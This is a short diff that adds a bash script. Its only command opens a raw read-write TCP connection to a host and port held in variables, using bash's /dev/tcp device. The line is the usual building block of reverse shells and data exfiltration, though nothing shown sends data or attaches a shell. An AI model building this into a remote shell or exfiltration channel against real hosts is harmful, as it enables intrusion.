@@ -1,0 +1,2 @@
+#!/usr/bin/env bash
+exec 3<>"/dev/tcp/$ip/$port"
